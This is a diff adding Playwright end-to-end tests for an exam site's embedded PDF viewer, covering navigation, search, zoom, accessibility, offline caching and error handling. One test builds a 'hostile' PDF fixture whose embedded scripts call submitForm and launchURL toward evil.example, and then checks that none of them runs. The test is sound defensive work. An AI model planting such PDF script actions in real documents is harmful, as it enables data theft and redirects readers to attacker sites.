@@ -1,0 +1,358 @@
+import type { Page } from '@playwright/test'
+import {
+  exam,
+  expect,
+  expectNoViolations,
+  longText,
+  organisation,
+  person,
+  radio,
+  signIn,
+  startExam,
+  test,
+} from '../../../../../e2e/fixtures.ts'
+import { type PdfPage, pdfFile } from '../../../../../e2e/pdf-file.ts'
+
+const pageOf = (index: number, more: Partial<PdfPage> = {}): PdfPage => ({
+  lines: [`Rule ${index + 1}`, 'Vessels keep to the starboard side.', `A vessel of ${index + 1} masts gives way.`],
+  ...more,
+})
+const pagesOf = (count: number) => Array.from({ length: count }, (_, index) => pageOf(index))
+const rules = pdfFile({
+  pages: [
+    pageOf(0, {
+      links: [
+        { text: 'The last rule', page: 12 },
+        { text: 'The harbour office', url: 'https://harbour.example/' },
+      ],
+    }),
+    ...pagesOf(12).slice(1),
+  ],
+  outline: [
+    { title: 'First things', page: 1 },
+    { title: 'Lights', page: 7 },
+  ],
+})
+
+const world = (files: Record<string, Uint8Array>, settings: object = {}) =>
+  organisation({
+    exams: [
+      exam({
+        name: 'Harbour law',
+        settings: { examTime: 3600, ...settings },
+        files,
+        questions: [
+          radio('<p>Who gives way? See <a href="resources/rules.pdf">the rules</a>.</p>', ['Sail', 'Steam'], 0),
+          longText('<p>Describe <a href="resources/rules.pdf">rule 7</a>.</p>'),
+          longText('<p>Anything else?</p>'),
+        ],
+      }),
+    ],
+  })
+
+const open = async (page: Page, examGuid: string) => {
+  await page.goto(`/exam/${examGuid}`)
+  await startExam(page)
+}
+const viewer = (page: Page, name = 'Rules') => page.getByRole('region', { name: `Document: ${name}` })
+const opener = (page: Page, name = 'Rules') =>
+  page.getByRole('region', { name: 'Documents', exact: true }).getByRole('button', { name })
+const textOf = (page: Page, number: number) => viewer(page).locator(`.page[data-page-number="${number}"] .textLayer`)
+const isPainted = (page: Page, number: number) =>
+  viewer(page).locator(`.page[data-page-number="${number}"][data-loaded="true"] canvas`)
+
+/** The headings that a screen reader is told of, as the browser has them. */
+const spokenHeadings = async (page: Page) => {
+  const session = await page.context().newCDPSession(page)
+  const { nodes } = await session.send('Accessibility.getFullAXTree')
+  await session.detach()
+  const byId = new Map(nodes.map((node) => [node.nodeId, node]))
+  const textOf = (id: string): string => {
+    const { name, childIds = [] } = byId.get(id) ?? {}
+    return String(name?.value ?? '') || childIds.map(textOf).join('')
+  }
+  return nodes.flatMap(({ role, nodeId }) => (role?.value === 'heading' ? [textOf(nodeId)] : []))
+}
+
+// PDF-301 PDF-303 PDF-305 PDF-306
+test('a PDF is read beside its question by keyboard: pages, search, headings, links within it, and told to a screen reader', async ({
+  page,
+  sitwell,
+}) => {
+  const arranged = await sitwell.arrange(world({ 'resources/rules.pdf': rules }))
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(new URL(request.url()).host))
+  await signIn(page, arranged)
+  await open(page, arranged.exams[0]?.examGuid ?? '')
+  await opener(page).focus()
+  await page.keyboard.press('Enter')
+  await expect(textOf(page, 1)).toContainText('Vessels keep to the starboard side.')
+  const shown = viewer(page)
+  const pages = shown.getByRole('group', { name: 'Pages of the document' })
+  await expect(pages).toBeFocused()
+  await expect(shown.getByRole('progressbar')).toHaveJSProperty('max', 12)
+  // As the document is tagged.
+  await expect.poll(() => spokenHeadings(page)).toContain('Rule 1')
+
+  const number = shown.getByRole('textbox', { name: 'Go to page' })
+  await page.keyboard.press('ArrowRight')
+  await expect(number).toHaveValue('2')
+  await page.keyboard.press('End')
+  await expect(number).toHaveValue('12')
+  await page.keyboard.press('Home')
+  await expect(number).toHaveValue('1')
+  // It is the document's pages that were turned.
+  await expect(page.getByRole('heading', { name: 'Question 1' })).toBeVisible()
+
+  await page.keyboard.press('Control+f')
+  const search = shown.getByRole('searchbox', { name: 'Search the document' })
+  await expect(search).toBeFocused()
+  await page.keyboard.type('STARBOARD')
+  const hits = shown.locator('search output')
+  await expect(hits).toHaveText('1 of 12')
+  await page.keyboard.press('Enter')
+  await expect(hits).toHaveText('2 of 12')
+  await expect(number).toHaveValue('2')
+  await expect(textOf(page, 2).locator('.highlight.selected')).toHaveText('starboard')
+  await expect(textOf(page, 1).locator('.highlight')).toHaveText('starboard')
+  await search.fill('rudder')
+  await expect(hits).toHaveText('Not found')
+  await page.keyboard.press('Escape')
+  await expect(search).toBeHidden()
+
+  await shown.getByRole('button', { name: 'Contents' }).press('Enter')
+  await shown.getByRole('button', { name: 'Lights' }).press('Enter')
+  await expect(number).toHaveValue('7')
+  await shown.getByRole('button', { name: 'Pages', exact: true }).click()
+  await shown.getByRole('button', { name: 'Page 1', exact: true }).click()
+  await expect(number).toHaveValue('1')
+  await shown.getByRole('button', { name: 'Contents' }).press('Enter')
+  await expect(shown.getByRole('link', { name: /leads out of the document/ })).not.toHaveAttribute('href')
+  await shown.getByRole('link', { name: 'The last rule' }).press('Enter')
+  await expect(number).toHaveValue('12')
+
+  await shown.getByRole('button', { name: 'Shown at' }).press('Enter')
+  // 595 points at 96/72.
+  await expect.poll(async () => Math.round((await shown.locator('.page').first().boundingBox())?.width ?? 0)).toBe(793)
+  for (let times = 0; times < 6; times += 1) await shown.getByRole('button', { name: 'Larger' }).click()
+  await expect(shown.getByRole('button', { name: 'Shown at 400 %' })).toBeVisible()
+  await expect(shown.getByRole('button', { name: 'Larger' })).toBeDisabled()
+  await shown.getByRole('button', { name: 'Fit the width' }).press('Enter')
+  await expectNoViolations(page)
+  await shown.getByRole('button', { name: 'Close the document' }).press('Enter')
+  await expect(opener(page)).toBeFocused()
+  expect([...new Set(asked)]).toEqual([new URL(sitwell.origin).host])
+})
+
+test('page, zoom and width stay as they were from question to question, over a reload, and without a network', async ({
+  page,
+  context,
+  sitwell,
+}) => {
+  const arranged = await sitwell.arrange(world({ 'resources/rules.pdf': rules }))
+  await signIn(page, arranged)
+  await open(page, arranged.exams[0]?.examGuid ?? '')
+  await page.getByRole('link', { name: 'the rules' }).click()
+  const shown = viewer(page)
+  const number = shown.getByRole('textbox', { name: 'Go to page' })
+  await expect(number).toHaveValue('1')
+  await number.fill('7')
+  await number.press('Enter')
+  await shown.getByRole('button', { name: 'Shown at' }).click()
+  await shown.getByRole('button', { name: 'Larger' }).click()
+  const divider = page.getByRole('separator', { name: 'Width of the document' })
+  await divider.press('ArrowLeft')
+  await expect(divider).toHaveAttribute('aria-valuenow', '55')
+  const isAsLeft = async () => {
+    await expect(number).toHaveValue('7')
+    await expect(shown.getByRole('button', { name: 'Shown at 125 %' })).toBeVisible()
+    await expect(divider).toHaveAttribute('aria-valuenow', '55')
+    await expect(isPainted(page, 7)).toBeVisible()
+  }
+  await isAsLeft()
+  await page.getByRole('button', { name: 'Next', exact: true }).click()
+  await expect(page.getByRole('heading', { name: 'Question 2' })).toBeFocused()
+  await isAsLeft()
+  // Nothing of the third question names it.
+  await page.getByRole('button', { name: 'Next', exact: true }).click()
+  await expect(page.getByRole('heading', { name: 'Question 3' })).toBeVisible()
+  await expect(shown).toHaveCount(0)
+  await page.getByRole('button', { name: 'Previous', exact: true }).click()
+  await isAsLeft()
+  await expect.poll(() => page.evaluate(keptFiles)).toBeGreaterThan(0)
+  let fetched = 0
+  await page.route('**/rules.pdf*', async (route) => {
+    fetched += 1
+    await route.continue()
+  })
+  await page.reload()
+  await isAsLeft()
+  expect(fetched).toBe(0)
+  await context.setOffline(true)
+  await page.getByRole('button', { name: 'Previous', exact: true }).click()
+  await isAsLeft()
+  await number.fill('12')
+  await number.press('Enter')
+  await expect(textOf(page, 12)).toContainText('A vessel of 12 masts')
+})
+
+/** How many files of the exam this browser keeps. */
+const keptFiles = async () => {
+  const database = await new Promise<IDBDatabase>((resolve) => {
+    const request = indexedDB.open('sitwell')
+    request.onsuccess = () => resolve(request.result)
+  })
+  const count = await new Promise<number>((resolve) => {
+    const request = database.transaction('examFiles').objectStore('examFiles').count()
+    request.onsuccess = () => resolve(request.result)
+  })
+  database.close()
+  return count
+}
+
+test('nothing of a PDF runs or is sent; one that is locked, damaged or gone says so, and the exam goes on', async ({
+  page,
+  sitwell,
+}) => {
+  const hostile = pdfFile({
+    pages: [
+      {
+        lines: ['Hostile'],
+        links: [
+          { text: 'Run', script: 'app.alert(1); this.submitForm("https://evil.example/")' },
+          { text: 'Out', url: 'https://evil.example/' },
+        ],
+      },
+    ],
+    script: 'app.launchURL("https://evil.example/")',
+  })
+  const files = {
+    'resources/rules.pdf': rules,
+    'resources/hostile.pdf': hostile,
+    'resources/locked.pdf': pdfFile({ pages: pagesOf(2), password: 'sesame' }),
+    'resources/damaged.pdf': Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 'x')]),
+    'resources/boundless.pdf': pdfFile({ pages: pagesOf(1), times: 5001 }),
+    'resources/gone.pdf': pdfFile({ pages: pagesOf(3) }),
+  }
+  const arranged = await sitwell.arrange(world(files))
+  const outside: string[] = []
+  page.on('request', (request) => {
+    if (!request.url().startsWith(sitwell.origin) && !request.url().startsWith('blob:')) outside.push(request.url())
+  })
+  page.on('dialog', (dialog) => outside.push(dialog.message()))
+  page.context().on('page', (other) => outside.push(other.url()))
+  await page.route('**/gone.pdf*', (route) =>
+    route.continue({
+      url: route
+        .request()
+        .url()
+        .replace(/token=[^&]*/, 'token=x'),
+    }),
+  )
+  await signIn(page, arranged)
+  await page.goto(`/exam/${arranged.exams[0]?.examGuid}`)
+  await expect(page.getByRole('listitem').filter({ hasText: 'gone.pdf' })).toBeVisible()
+  await page.getByRole('button', { name: 'Go on without them' }).click()
+  await startExam(page)
+
+  await opener(page, 'Hostile').click()
+  const links = viewer(page, 'Hostile').getByRole('link')
+  await expect(viewer(page, 'Hostile').locator('.textLayer')).toContainText('Hostile')
+  await expect(links).toHaveCount(1)
+  await links.first().click({ button: 'middle', force: true })
+  await links.first().click({ force: true })
+
+  await opener(page, 'Locked').click()
+  const locked = viewer(page, 'Locked')
+  await locked.getByRole('textbox', { name: 'Password of the document' }).fill('open')
+  await page.keyboard.press('Enter')
+  await expect(locked.getByText('This password doesn’t open it.')).toBeVisible()
+  await expectNoViolations(page, 'section[aria-label="Document: Locked"]')
+  await locked.getByRole('textbox', { name: 'Password of the document' }).fill('sesame')
+  await page.keyboard.press('Enter')
+  await expect(locked.locator('.textLayer').first()).toContainText('starboard')
+  // PDF-302 PDF-307
+  await expect(locked.getByRole('navigation').getByRole('listitem')).toHaveCount(2)
+
+  for (const [name, says] of [
+    ['Damaged', 'Its file is damaged.'],
+    ['Boundless', 'more pages than can be shown'],
+    ['Gone', 'The server doesn’t give it out.'],
+  ] as const) {
+    await opener(page, name).click()
+    await expect(viewer(page, name).getByRole('alert')).toContainText(says)
+  }
+  await page.unroute('**/gone.pdf*')
+  await viewer(page, 'Gone').getByRole('button', { name: 'Try again' }).click()
+  await expect(viewer(page, 'Gone').locator('.textLayer').first()).toContainText('starboard')
+  await viewer(page, 'Gone').getByRole('button', { name: 'Close the document' }).click()
+  await page.getByRole('radio', { name: 'Sail' }).check({ force: true })
+  await expect(page.getByTestId('saved-state')).toHaveText('Saved')
+  expect(outside).toEqual([])
+})
+
+test('a large PDF shows its first page while the rest still comes, and the exam may begin meanwhile', async ({
+  page,
+  sitwell,
+}) => {
+  const large = pdfFile({ pages: pagesOf(40), ballast: 150_000 })
+  const arranged = await sitwell.arrange(world({ 'resources/rules.pdf': large }))
+  let rest: (() => void) | undefined
+  const held = new Promise<void>((resolve) => {
+    rest = resolve
+  })
+  // The third piece of what is loaded ahead comes no sooner than the test says.
+  await page.route('**/rules.pdf*', async (route) => {
+    const range = route.request().headers()['range'] ?? ''
+    if (range.startsWith('bytes=2097152-')) await held
+    await route.continue()
+  })
+  await signIn(page, arranged)
+  await page.goto(`/exam/${arranged.exams[0]?.examGuid}`)
+  await expect(page.getByRole('progressbar', { name: 'Document 1 of 1' })).toHaveJSProperty('value', 2_097_152)
+  await page.getByRole('button', { name: 'Go on while they load' }).click()
+  await startExam(page)
+  await opener(page).click()
+  await expect(textOf(page, 1)).toContainText('A vessel of 1 masts')
+  const number = viewer(page).getByRole('textbox', { name: 'Go to page' })
+  await number.fill('40')
+  await number.press('Enter')
+  await expect(textOf(page, 40)).toContainText('A vessel of 40 masts')
+  expect(await page.evaluate(keptFiles)).toBe(0)
+  rest?.()
+  await expect.poll(() => page.evaluate(keptFiles)).toBe(1)
+  // Pages that are far away are let go of.
+  expect(await viewer(page).locator('.page canvas').count()).toBeLessThan(12)
+})
+
+// PDF-304
+test('on a phone, in an older browser, from right to left, the document takes the place of the question, and its text can be kept from being chosen', async ({
+  page,
+  sitwell,
+}) => {
+  await page.setViewportSize({ width: 390, height: 844 })
+  await page.route('**/config.json', async (route) => {
+    const reply = await route.fetch()
+    const pdfSupportedBrowsers = [{ name: 'firefox', include: [], exclude: [] }]
+    await route.fulfill({ response: reply, json: { ...(await reply.json()), pdfSupportedBrowsers } })
+  })
+  const arranged = await sitwell.arrange({
+    ...world({ 'resources/rules.pdf': rules }, { allowPdfTextSelection: false }),
+    organisation: { languageId: 2 },
+    people: [person({ languageId: 2 })],
+  })
+  await signIn(page, arranged)
+  await page.goto(`/exam/${arranged.exams[0]?.examGuid}`)
+  await page.getByRole('button', { name: 'ابدأ', exact: true }).click()
+  await page.getByRole('link', { name: 'the rules' }).click()
+  const shown = page.getByRole('region', { name: 'المستند: Rules' })
+  await expect(shown.locator('.textLayer').first()).toContainText('starboard')
+  await expect(page.getByRole('radio', { name: 'Sail' })).toBeHidden()
+  expect((await shown.boundingBox())?.width).toBe(390)
+  await expect(shown.locator('.textLayer span').first()).toHaveCSS('user-select', 'none')
+  await page.keyboard.press('ArrowLeft')
+  await expect(shown.getByRole('textbox', { name: 'الانتقال إلى الصفحة' })).toHaveValue('2')
+  await expectNoViolations(page)
+  await shown.getByRole('button', { name: 'إغلاق المستند' }).click()
+  await expect(page.getByRole('radio', { name: 'Sail' })).toBeVisible()
+})
